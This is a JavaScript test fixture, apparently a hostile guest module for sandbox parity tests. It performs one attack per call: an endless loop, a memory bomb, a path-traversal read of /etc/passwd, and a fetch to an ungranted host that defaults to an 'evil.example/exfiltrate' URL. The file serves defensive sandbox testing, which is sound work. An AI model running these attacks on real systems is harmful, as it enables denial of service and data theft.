// Hostile JavaScript guest for the sandbox parity tests: one component, one attack per call.
//   {"attack": "spin"}                loops forever (fuel and the deadline stop it)
//   {"attack": "membomb"}             allocates until the memory cap stops it
//   {"attack": "escape", "path": P}   reads P (e.g. /etc/passwd, /data/in/../../etc/passwd)
//   {"attack": "http", "url": U}      calls a host its grant does not name
//   {"ok": true}                      returns {"ok": true}
export async function run(input, ctx) {
  if (!input || input.ok) return { ok: true };
  switch (input.attack) {
    case 'spin': {
      let n = 0;
      for (;;) n++;
    }
    case 'membomb': {
      const hoard = [];
      for (;;) hoard.push(new Uint8Array(8 << 20).fill(1));
    }
    case 'escape':
      return { stolen: ctx.readText(input.path).slice(0, 200) };
    case 'http': {
      const r = await ctx.fetch(input.url ?? 'http://evil.example/exfiltrate');
      return { status: r.status };
    }
    default:
      throw new Error(`unknown attack ${input.attack}`);
  }
}
